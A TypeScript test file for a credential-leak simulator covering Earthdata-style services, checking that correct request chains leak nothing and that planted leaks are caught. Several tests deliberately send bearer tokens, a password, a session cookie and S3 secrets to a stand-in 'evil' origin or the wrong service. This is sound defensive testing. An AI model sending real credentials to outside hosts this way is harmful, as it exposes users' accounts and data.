import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type Leak, type Simulator, startSimulator } from "../src/index.js";
import { CookieClient } from "./cookie-client.js";

let box: Simulator;
const rules = (): Leak["rule"][] => box.leaks().map((leak) => leak.rule);
const send = async (url: string, init: RequestInit = {}): Promise<void> =>
  void (await (await fetch(url, { redirect: "manual", ...init })).arrayBuffer());
const bearer = (token: string): Record<string, string> => ({ authorization: `Bearer ${token}` });
const basic = (): Record<string, string> => ({
  authorization: `Basic ${Buffer.from("demo:demo-password").toString("base64")}`,
});

beforeAll(async () => {
  box = await startSimulator({ granules: 10 });
});

beforeEach(() => {
  box.clearRequests();
});

afterAll(async () => {
  await box.close();
});

describe("correct chains leak nothing", () => {
  test("a bearer to cmr, edl and data, dropped on the way to the objects", async () => {
    const headers = bearer(box.issueToken());
    await send(`${box.urls.cmr}/search/collections.umm_json`, { headers });
    await send(`${box.urls.edl}/api/users/demo`, { headers });
    await send(`${box.urls.data}/bucket/folder/file.nc`, { headers, redirect: "follow" });
    await send(`${box.urls.data}/s3credentials`, { headers });
    expect(box.requests.at(-2)?.role).toBe("objects");
    expect(box.leaks()).toEqual([]);
  });

  test("a password at Earthdata Login and cookies at their own origins", async () => {
    const client = new CookieClient({ origin: box.urls.edl, ...box.user });
    await (await client.get(`${box.urls.data}/bucket/folder/file.nc`)).response.arrayBuffer();
    await (await client.get(`${box.urls.data}/s3credentials`)).response.arrayBuffer();
    expect(box.leaks()).toEqual([]);
  });

  test("revoking a token, which the service wants in the URL", async () => {
    const token = box.issueToken();
    await send(`${box.urls.edl}/api/users/revoke_token?token=${token}`, { method: "POST", headers: basic() });
    expect(box.leaks()).toEqual([]);
  });
});

describe("planted leaks are found", () => {
  test("a token at the evil role, the objects or the STAC API", async () => {
    const headers = bearer(box.issueToken());
    await send(`${box.urls.evil}/x`, { headers });
    await send(`${box.urls.objects}/a/b`, { headers });
    await send(`${box.urls.stac}/stac`, { headers });
    expect(rules()).toEqual(["token-origin", "token-origin", "token-origin"]);
    expect(box.leaks()[0]).toMatchObject({
      what: "token in header authorization",
      request: { role: "evil", path: "/x" },
    });
  });

  test("a token in a custom header, in a URL or in a body", async () => {
    const token = box.issueToken();
    await send(`${box.urls.data}/bucket/folder/file.nc`, { headers: { "x-token": token } });
    await send(`${box.urls.cmr}/search/collections.umm_json?token=${token}`);
    await send(`${box.urls.evil}/`, { method: "POST", body: JSON.stringify({ token }) });
    expect(rules()).toEqual(["token-origin", "token-url", "token-origin"]);
  });

  test("an expired token too", async () => {
    await send(`${box.urls.evil}/`, { headers: bearer(box.issueToken({ expiresInMs: -1 })) });
    expect(rules()).toEqual(["token-origin"]);
  });

  test("a password outside Earthdata Login, as Basic, plain or in a URL", async () => {
    await send(`${box.urls.data}/bucket/folder/file.nc`, { headers: basic() });
    await send(`${box.urls.evil}/?q=demo-password`);
    await send(`${box.urls.cmr}/search/collections.umm_json`, {
      method: "POST",
      body: new URLSearchParams({ keyword: "demo-password" }),
    });
    expect(rules()).toEqual(["password-origin", "secret-url", "password-origin"]);
  });

  test("a session cookie at another origin", async () => {
    await new CookieClient({ origin: box.urls.edl, ...box.user }).get(`${box.urls.data}/bucket/folder/file.nc`);
    const cookie =
      box.requests.find((request) => request.role === "data" && request.headers.cookie !== undefined)?.headers.cookie ??
      "";
    box.clearRequests();
    await send(`${box.urls.evil}/`, { headers: { cookie } });
    expect(rules()).toEqual(["session-cookie"]);
  });

  test("S3 secrets and signatures elsewhere than at the objects", async () => {
    const response = await fetch(`${box.urls.data}/s3credentials`, { headers: bearer(box.issueToken()) });
    const { secretAccessKey, sessionToken } = (await response.json()) as Record<string, string>;
    const signed = await fetch(`${box.urls.data}/a/b.nc`, { headers: bearer(box.issueToken()), redirect: "manual" });
    const { search } = new URL(signed.headers.get("location") ?? "");
    box.clearRequests();
    await send(`${box.urls.evil}/`, { method: "POST", body: String(secretAccessKey) });
    await send(`${box.urls.data}/a/b.nc`, { headers: { "x-amz-security-token": String(sessionToken) } });
    await send(`${box.urls.evil}/a/b.nc${search}`);
    expect(rules()).toEqual(["s3-secret", "s3-secret", "signature-origin"]);
  });
});

test("secrets are found in any text, each once", async () => {
  const token = box.issueToken();
  const encoded = basic().authorization?.slice(6);
  expect(box.searchSecrets(`error: ${token}. and again ${token}`)).toEqual([token]);
  expect(box.searchSecrets(`user demo, demo-password, ${encoded}`).sort()).toEqual([encoded, "demo-password"].sort());
  expect(box.searchSecrets("nothing to see")).toEqual([]);
  const signed = await fetch(`${box.urls.data}/a/b.nc`, { headers: bearer(token), redirect: "manual" });
  const location = signed.headers.get("location") ?? "";
  expect(box.searchSecrets(`failed: ${location}`)).toEqual([new URL(location).searchParams.get("X-Amz-Signature")]);
});
